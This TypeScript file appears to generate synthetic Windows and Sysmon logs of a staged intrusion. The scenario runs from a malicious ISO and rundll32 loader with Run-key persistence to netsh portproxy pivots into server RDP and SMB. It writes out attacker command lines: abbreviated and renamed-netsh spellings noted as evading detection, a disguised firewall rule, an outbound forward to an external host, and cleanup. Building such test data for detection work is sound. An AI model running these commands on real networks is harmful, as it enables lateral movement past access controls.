import { accounts, type Cast, type Stage } from "./cast.ts";
import { images } from "./images.ts";
import { at, type Moment } from "./moment.ts";
import type { Image, Process, Session } from "./process.ts";
import * as security from "./security.ts";
import * as sysmon from "./sysmon.ts";

// The plot. An accountant opens a disk image from a mail; her workstation is made a relay into the server network
// with a port forward, then the file server, then both are cleaned up. Remote Desktop to the database server is
// closed to VPN clients (10.20.9.0/24), open to workstations: that is what the forward gets round.

const portProxy = "HKLM\\System\\CurrentControlSet\\Services\\PortProxy\\v4tov4\\tcp";
const auditedPortProxy = "\\REGISTRY\\MACHINE\\SYSTEM\\ControlSet001\\Services\\PortProxy\\v4tov4\\tcp";
const vpnClient = "10.20.9.66";

export function tell(cast: Cast): void {
  const shell = breakIn(cast.workstation);
  firstForward(cast, shell);
  fileServer(cast);
  evening(cast.workstation, shell);
  night(cast, shell);
}

/** Starts netsh the way a shell does. */
function netsh(
  { host }: Stage,
  moment: Moment,
  shell: Process,
  commandLine: string,
  image: Image = images.netsh,
): Process {
  return host.run(moment, shell, image, commandLine, { directory: "C:\\Users\\Public\\" });
}

/** Returns the elevated shell that the intruder works in. */
function breakIn({ host }: Stage): Process {
  const session: Session = { account: accounts.keller, logonId: 0x5a3c1fn, terminal: 1, integrity: "Medium" };
  const logon = host.had(
    images.winlogon,
    "winlogon.exe",
    { ...session, account: accounts.system },
    at("tue", "07:30:58.000"),
  );
  host.say(
    at("tue", "07:31:12.408"),
    security.loggedOn({
      session,
      type: 2,
      address: "127.0.0.1",
      port: 0,
      workstation: "WS-ACCT07",
      process: logon,
    }),
  );
  const explorer = host.run(at("tue", "07:31:14.870"), logon, images.explorer, "C:\\Windows\\Explorer.EXE", {
    session,
  });
  const outlook = host.run(at("tue", "07:33:02.115"), explorer, images.outlook, `"${images.outlook.path}"`, {
    directory: "C:\\Users\\m.keller\\",
  });
  const chrome = host.run(
    at("tue", "08:47:10.630"),
    outlook,
    images.chrome,
    `"${images.chrome.path}" --single-argument https://files.contoso-invoices.example/2024/03/INV-20240312.iso`,
  );
  host.say(
    at("tue", "08:47:12.004"),
    sysmon.networkConnection(chrome, at("tue", "08:47:11.213"), {
      initiated: true,
      source: ["10.20.4.31", host.spec.name, 52114, ""],
      destination: ["203.0.113.45", "files.contoso-invoices.example", 443, "https"],
    }),
  );
  host.say(
    at("tue", "08:47:19.582"),
    sysmon.fileCreated(chrome, at("tue", "08:47:19.580"), "C:\\Users\\m.keller\\Downloads\\INV-20240312.iso"),
  );
  const loader = host.run(
    at("tue", "08:49:37.201"),
    explorer,
    images.rundll32,
    '"C:\\Windows\\System32\\rundll32.exe" E:\\scan.dll,Start',
    { directory: "E:\\" },
  );
  host.say(
    at("tue", "08:49:39.033"),
    sysmon.fileCreated(
      loader,
      at("tue", "08:49:39.031"),
      "C:\\Users\\m.keller\\AppData\\Roaming\\Drivers\\nhelper.dll",
    ),
  );
  host.say(
    at("tue", "08:49:39.450"),
    sysmon.registryValue(
      loader,
      at("tue", "08:49:39.448"),
      `HKU\\${accounts.keller.sid}\\Software\\Microsoft\\Windows\\CurrentVersion\\Run\\NetworkHelper`,
      "rundll32.exe C:\\Users\\m.keller\\AppData\\Roaming\\Drivers\\nhelper.dll,Start",
    ),
  );
  host.say(
    at("tue", "08:49:42.871"),
    sysmon.networkConnection(loader, at("tue", "08:49:41.990"), {
      initiated: true,
      source: ["10.20.4.31", host.spec.name, 52160, ""],
      destination: ["203.0.113.45", "", 443, "https"],
    }),
  );
  const looking = host.run(
    at("tue", "09:04:50.100"),
    loader,
    images.cmd,
    "C:\\Windows\\system32\\cmd.exe /c whoami /all & ipconfig /all & nltest /dclist:contoso.example",
  );
  host.run(at("tue", "09:04:50.302"), looking, images.whoami, "whoami  /all");
  host.run(at("tue", "09:04:50.911"), looking, images.ipconfig, "ipconfig  /all");
  host.run(at("tue", "09:04:51.406"), looking, images.nltest, "nltest  /dclist:contoso.example");
  // Elevated from here on.
  const elevated: Session = { ...session, logonId: 0x5a3bd2n, integrity: "High" };
  host.say(at("tue", "09:12:08.640"), security.privilegesAssigned(elevated));
  return host.run(at("tue", "09:12:09.014"), loader, images.cmd, '"C:\\Windows\\system32\\cmd.exe"', {
    session: elevated,
    directory: "C:\\Users\\Public\\",
  });
}

/** The pivot: every keyword written out, and a rule in the firewall so that it can be reached. */
function firstForward({ workstation, database }: Cast, shell: Process): void {
  const { host } = workstation;
  netsh(workstation, at("tue", "09:18:22.010"), shell, "netsh  interface portproxy show all");
  const add = netsh(
    workstation,
    at("tue", "09:20:14.512"),
    shell,
    "netsh  interface portproxy add v4tov4 listenport=8443 listenaddress=0.0.0.0 connectport=3389 connectaddress=10.20.4.17",
  );
  host.say(
    at("tue", "09:20:14.590"),
    sysmon.registryObject(add, at("tue", "09:20:14.588"), "CreateKey", portProxy),
  );
  host.say(
    at("tue", "09:20:14.594"),
    sysmon.registryValue(add, at("tue", "09:20:14.591"), `${portProxy}\\0.0.0.0/8443`, "10.20.4.17/3389"),
  );
  netsh(
    workstation,
    at("tue", "09:20:41.227"),
    shell,
    'netsh  advfirewall firewall add rule name="Remote Assistance (DCOM)" dir=in action=allow protocol=TCP localport=8443',
  );
  useForward(workstation, database, at("tue", "09:31:05.118"), 61877);

  // By position, without tags: listenport connectaddress connectport. The listen address becomes `*`.
  const second = netsh(
    workstation,
    at("tue", "10:05:33.904"),
    shell,
    '"C:\\Windows\\System32\\netsh.exe" interface portproxy add v4tov4 9001 10.20.4.23 445',
  );
  host.say(
    at("tue", "10:05:33.977"),
    sysmon.registryValue(second, at("tue", "10:05:33.975"), `${portProxy}\\*/9001`, "10.20.4.23/445"),
  );
}

/** A VPN client reaches the database server through the workstation. */
function useForward({ host, ipHelper }: Stage, database: Stage, moment: Moment, port: number): void {
  host.say(
    moment + 900,
    sysmon.networkConnection(ipHelper, moment, {
      initiated: false,
      source: [vpnClient, "", port, ""],
      destination: ["10.20.4.31", host.spec.name, 8443, ""],
    }),
  );
  host.say(
    moment + 905,
    sysmon.networkConnection(ipHelper, moment + 3, {
      initiated: true,
      source: ["10.20.4.31", host.spec.name, port - 8000, ""],
      destination: ["10.20.4.17", "SRV-DB01", 3389, "ms-wbt-server"],
    }),
  );
  const session: Session = {
    account: accounts.databaseAdmin,
    logonId: 0x8f21a0n + BigInt(port),
    terminal: 3,
    integrity: "High",
  };
  // The database server sees the workstation, not the VPN client.
  database.host.say(
    moment + 6200,
    security.loggedOn({
      session,
      type: 10,
      address: "10.20.4.31",
      port: port - 8000,
      workstation: "SRV-DB01",
      process: database.svchost,
    }),
  );
  database.host.say(moment + 6204, security.privilegesAssigned(session));
  const desktop = database.host.run(
    moment + 9110,
    database.svchost,
    images.explorer,
    "C:\\Windows\\Explorer.EXE",
    { session },
  );
  database.host.run(moment + 41_300, desktop, images.cmd, '"C:\\Windows\\system32\\cmd.exe"');
  database.host.say(moment + 1_922_000, security.loggedOff(session, 10));
}

/** No Sysmon here: process creation and registry audit tell it. */
function fileServer({ fileServer }: Cast): void {
  const { host, system } = fileServer;
  const session: Session = { account: accounts.backup, logonId: 0x73b44cn, terminal: 0, integrity: "High" };
  host.say(
    at("tue", "13:40:01.733"),
    security.loggedOn({ session, type: 3, address: "10.20.4.31", port: 53990 }),
  );
  host.say(at("tue", "13:40:01.734"), security.privilegesAssigned(session));
  const wmi = host.had(
    images.wmiPrvSe,
    `${images.wmiPrvSe.path} -secured -Embedding`,
    system,
    at("tue", "13:40:01.000"),
  );
  const remote = (moment: Moment, command: string): Process =>
    host.run(
      moment,
      wmi,
      images.cmd,
      `cmd.exe /Q /c ${command} 1> \\\\127.0.0.1\\ADMIN$\\__1710250802.44 2>&1`,
      { session },
    );

  // As short as netsh lets it be.
  const short = "netsh I p a v l=8443 listena=0.0.0.0 connectp=3389 c=10.20.4.17";
  const add = host.run(
    at("tue", "13:40:07.255"),
    remote(at("tue", "13:40:07.090"), short),
    images.netsh,
    short.replace(" ", "  "),
  );
  host.say(
    at("tue", "13:40:07.431"),
    security.registryValue(add, auditedPortProxy, "0.0.0.0/8443", {
      kind: "created",
      now: "10.20.4.17/3389",
    }),
  );
  host.serviceState(at("tue", "13:40:08.902"), "IP Helper", "iphlpsvc", "running");

  // Half abbreviated: no command line rule knows this spelling; the registry write still tells.
  const half = "netsh int portp a v4tov4 listena=10.20.4.12 listenp=4450 connecta=10.20.4.23 connectp=445";
  const next = host.run(
    at("tue", "17:30:20.640"),
    remote(at("tue", "17:30:20.480"), half),
    images.netsh,
    half.replace(" ", "  "),
  );
  host.say(
    at("tue", "17:30:20.811"),
    security.registryValue(next, auditedPortProxy, "10.20.4.12/4450", {
      kind: "created",
      now: "10.20.4.23/445",
    }),
  );
  host.say(at("tue", "17:41:55.020"), security.loggedOff(session, 3));
}

/** netsh under another name, a forward out of the network. */
function evening(workstation: Stage, shell: Process): void {
  const { host } = workstation;
  const copy = host.run(
    at("tue", "21:11:40.300"),
    shell,
    images.cmd,
    `cmd  /c copy ${images.netsh.path} ${images.renamedNetsh.path}`,
  );
  host.say(
    at("tue", "21:11:40.377"),
    sysmon.fileCreated(copy, at("tue", "21:11:40.375"), images.renamedNetsh.path),
  );
  const out = netsh(
    workstation,
    at("tue", "21:12:18.455"),
    shell,
    `${images.renamedNetsh.path}  interface portproxy add v4tov4 listenport=5000 connectport=22 connectaddress=192.0.2.80`,
    images.renamedNetsh,
  );
  host.say(
    at("tue", "21:12:18.540"),
    sysmon.registryValue(out, at("tue", "21:12:18.538"), `${portProxy}\\*/5000`, "192.0.2.80/22"),
  );
}

/** The first forward is bent to another server, used once more, then taken away; the file server is reset. */
function night({ workstation, fileServer, database }: Cast, shell: Process): void {
  const { host } = workstation;
  useForward(workstation, database, at("tue", "23:02:44.700"), 62391);
  const set = netsh(
    workstation,
    at("wed", "01:15:09.618"),
    shell,
    "netsh  interface portproxy set v4tov4 listenport=8443 listenaddress=0.0.0.0 connectport=5985 connectaddress=10.20.4.18",
  );
  host.say(
    at("wed", "01:15:09.702"),
    sysmon.registryValue(set, at("wed", "01:15:09.700"), `${portProxy}\\0.0.0.0/8443`, "10.20.4.18/5985"),
  );
  const remove = netsh(
    workstation,
    at("wed", "01:48:30.233"),
    shell,
    "netsh  interface portproxy delete v4tov4 listenport=8443 listenaddress=0.0.0.0",
  );
  host.say(
    at("wed", "01:48:30.310"),
    sysmon.registryObject(remove, at("wed", "01:48:30.308"), "DeleteValue", `${portProxy}\\0.0.0.0/8443`),
  );

  const session: Session = { account: accounts.backup, logonId: 0x91e07dn, terminal: 0, integrity: "High" };
  const server = fileServer.host;
  server.say(
    at("wed", "02:04:58.160"),
    security.loggedOn({ session, type: 3, address: "10.20.4.31", port: 58122 }),
  );
  const wmi = server.had(
    images.wmiPrvSe,
    `${images.wmiPrvSe.path} -secured -Embedding`,
    fileServer.system,
    at("wed", "02:04:59.000"),
  );
  const reset = server.run(at("wed", "02:05:03.874"), wmi, images.netsh, "netsh  interface portproxy reset", {
    session,
  });
  for (const [name, before] of [
    ["0.0.0.0/8443", "10.20.4.17/3389"],
    ["10.20.4.12/4450", "10.20.4.23/445"],
  ] as const) {
    server.say(
      at("wed", "02:05:03.990"),
      security.registryValue(reset, auditedPortProxy, name, { kind: "deleted", before }),
    );
  }
  server.say(at("wed", "02:05:11.204"), security.loggedOff(session, 3));
}
